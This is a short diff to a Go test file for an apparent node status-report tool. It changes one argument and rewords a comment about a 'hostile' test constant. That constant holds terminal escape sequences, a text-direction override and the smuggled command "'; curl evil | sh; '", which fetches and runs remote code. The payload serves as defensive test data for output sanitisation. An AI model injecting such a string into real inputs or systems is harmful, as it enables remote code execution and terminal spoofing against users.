@@ -22,7 +22,7 @@ func everythingOf(page statuspage.Page) (text string, lines int, err error) {
 	f := sound()
 	f.answers[0].page = page
 	rows := volumeRowsOf(f.volumes, usersOf(podsOfShop()), f.answers)
-	left := leftRows("node-1", f.volumes, usersOf(podsOfShop()), f.contents, f.answers[0])
+	left := leftRows("node-1", f.volumes, usersOf(podsOfShop()), f.contents, f.answers[:1])
 	orphans := orphanRows(f.answers)
 	var reports []nodeReport
 	for _, a := range f.answers {
@@ -81,7 +81,7 @@ func FuzzBytes(f *testing.F) {
 	})
 }
 
-// hostile is text that a holder of a node's token may put into the node's answer: it controls a terminal, hides part of a line, and
+// hostile is text that whoever is root on a node may put into the node's answer: it controls a terminal, hides part of a line, and
 // contains a command.
 const hostile = "a\u009b2J\u202e\x1b]0;x\x07\n'; curl evil | sh; '"
 
